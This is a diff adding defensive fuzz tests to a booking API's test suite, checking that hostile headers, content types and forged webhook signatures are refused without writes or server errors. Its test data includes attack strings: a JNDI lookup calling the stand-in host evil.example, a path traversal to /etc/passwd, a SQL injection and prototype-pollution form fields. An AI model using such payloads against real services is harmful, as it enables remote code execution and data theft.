@@ -100,3 +100,112 @@ describe("fuzz: malformed, oversized and hostile input to every route", () => {
     expect(await rowCounts()).toEqual(before);
   });
 });
+
+// ───────────────────────── hostile headers ─────────────────────────
+
+/** Idempotency-Key values a client could send (each a valid header value; Request refuses the rest). */
+const HOSTILE_KEYS = ["", " ", "\t", "x".repeat(256), "k".repeat(10_000), "é-ümlaut", "${jndi:ldap://evil.example/a}", "../../etc/passwd", "' OR '1'='1", "*", "a,b"];
+/** Content types around JSON, each with a body no schema accepts (`null`: no Content-Type at all). */
+const HOSTILE_TYPES: [string | null, string][] = [
+  [null, JSON.stringify(wrongTypes)],
+  ["text/plain", JSON.stringify(wrongTypes)],
+  ["application/x-www-form-urlencoded", "role=admin&__proto__%5Badmin%5D=1&minutes=lots"],
+  ["multipart/form-data; boundary=----fuzz", '------fuzz\r\nContent-Disposition: form-data; name="role"\r\n\r\nadmin\r\n------fuzz--\r\n'],
+  ["application/json; charset=utf-16", JSON.stringify(wrongTypes)],
+  ['application/json; charset="latin1"', JSON.stringify(wrongTypes)],
+  ["APPLICATION/JSON", JSON.stringify(wrongTypes)],
+  ["application/json, text/html", JSON.stringify(wrongTypes)],
+  ["application/xml", "<role>admin</role>"],
+];
+/** Signature headers of the webhooks, mangled. */
+const HOSTILE_SIGNATURES = [
+  "",
+  "t=",
+  "v1=",
+  "t=abc,v1=00",
+  "t=-1,v1=zz",
+  "t=99999999999999999999999,v1=00",
+  `t=${Math.floor(Date.now() / 1000)},v0=aa,v1=bb,v1=cc`,
+  `t=${Math.floor(Date.now() / 1000)};v1=${"0".repeat(64)}`,
+  `t=${Math.floor(Date.now() / 1000)},${Array.from({ length: 200 }, () => `v1=${"f".repeat(64)}`).join(",")}`,
+  ",,,,",
+  "=".repeat(5000),
+];
+const WEBHOOKS: [string, string][] = [
+  ["/api/webhooks/stripe", "Stripe-Signature"],
+  ["/api/webhooks/calendly", "Calendly-Webhook-Signature"],
+];
+
+/** Row counts apart from stored idempotent answers (a refused request is remembered under its key, as designed). */
+const countsApartFromKeys = async () => {
+  const { idempotency_keys: _, ...rest } = await rowCounts();
+  return rest;
+};
+
+describe("fuzz: hostile headers", () => {
+  const mutating = routeTable().filter((r) => !r.startsWith("GET ") && !r.endsWith("/logout") && !r.includes("/webhooks/"));
+
+  // Routes without a body do what they do whatever the headers say (rotating a feed writes a row): they are
+  // held to no 5xx and the envelope; the others must also write nothing, since no body here is valid.
+  it.each(mutating)("%s survives odd Idempotency-Keys and Content-Types", async (route) => {
+    const [method, path] = route.split(" ") as [string, string];
+    const before = await countsApartFromKeys();
+    const url = fillPath(path, { id: path.includes("/bookings/") ? ids.booking! : ids.tutor!, userId: ids.student! });
+    for (const [persona, client] of Object.entries(people)) {
+      for (const key of HOSTILE_KEYS) check(`${route} [Idempotency-Key ${JSON.stringify(key.slice(0, 20))}]`, persona, await client.request(method, url, JSON.stringify(wrongTypes), { "Idempotency-Key": key }));
+      for (const [type, body] of HOSTILE_TYPES) check(`${route} [Content-Type ${type}]`, persona, await client.request(method, url, body, { "Content-Type": type }));
+    }
+    if (!NO_BODY.has(route)) expect(await countsApartFromKeys()).toEqual(before);
+    // What the idempotency layer kept: keys it accepts (1 to 255 printable ASCII) and answers below 500 only.
+    const kept = await env.DB.prepare("SELECT key, status FROM idempotency_keys").all<{ key: string; status: number }>();
+    for (const row of kept.results) {
+      expect(row.key).toMatch(/^[\x21-\x7e]{1,255}$/);
+      expect(row.status).toBeLessThan(500);
+    }
+  });
+
+  it.each([
+    ["text", "text/plain", "{}"],
+    ["a form", "application/x-www-form-urlencoded", "reason=later"],
+    ["multipart", "multipart/form-data; boundary=----x", '------x\r\nContent-Disposition: form-data; name="reason"\r\n\r\nlater\r\n------x--\r\n'],
+    ["no Content-Type", null, "{}"],
+  ])("refuses %s sent to a JSON route (415): a form post never passes for an empty request", async (_, type, body) => {
+    // Cancelling takes an all-optional body: read as {}, any of these would have cancelled the session.
+    const res = await people.student!.request("POST", `/api/bookings/${ids.booking}/cancel`, body, { "Content-Type": type });
+    expect(res.status).toBe(415);
+    expect(res.json.error.code).toBe("unsupported_media_type");
+    const mine = (await people.student!.get("/api/bookings")).json.bookings as { id: string; status: string }[];
+    expect(mine.find((b) => b.id === ids.booking)?.status).toBe("confirmed");
+  });
+
+  it("refuses a reused Idempotency-Key with another body (422) and replays the first answer to a repeat", async () => {
+    const key = `fuzz-${crypto.randomUUID()}`;
+    const body = { tutorId: ids.tutor, start: slotAhead(200 * 60), durationMinutes: 60, subject: "mathematics" };
+    const first = await people.student!.post("/api/bookings", body, { "Idempotency-Key": key });
+    expect(first.status).toBe(201);
+    const again = await people.student!.post("/api/bookings", body, { "Idempotency-Key": key });
+    expect(again.status).toBe(201);
+    expect(again.headers.get("Idempotent-Replayed")).toBe("true");
+    expect(again.json.booking.id).toBe(first.json.booking.id);
+    const other = await people.student!.post("/api/bookings", { ...body, start: slotAhead(204 * 60) }, { "Idempotency-Key": key });
+    expect(other.status).toBe(422);
+    expect(other.json.error.code).toBe("idempotency_key_reused");
+    // The booking's notices and projections follow the answer: let them land before the next test counts rows.
+    await calendarOf(env, ids.tutor!).settle();
+    await settleWallet(ids.student!);
+  });
+
+  it.each(WEBHOOKS)("%s refuses every mangled signature with 400 invalid_signature and writes nothing", async (path, header) => {
+    const before = await rowCounts();
+    const bodies = [JSON.stringify({ id: "evt_fuzz", type: "invoice.paid", data: { object: {} } }), JSON.stringify({ event: "invitee.created", payload: {} }), ...HOSTILE_BODIES.map(([, b]) => b)];
+    for (const signature of HOSTILE_SIGNATURES) {
+      for (const body of bodies) {
+        const res = await people.anonymous!.request("POST", path, body, { [header]: signature });
+        check(`${path} [${header} ${signature.slice(0, 30)}]`, "anonymous", res);
+        expect(res.status).toBe(400);
+        expect(res.json.error.code).toBe("invalid_signature");
+      }
+    }
+    expect(await rowCounts()).toEqual(before);
+  });
+});
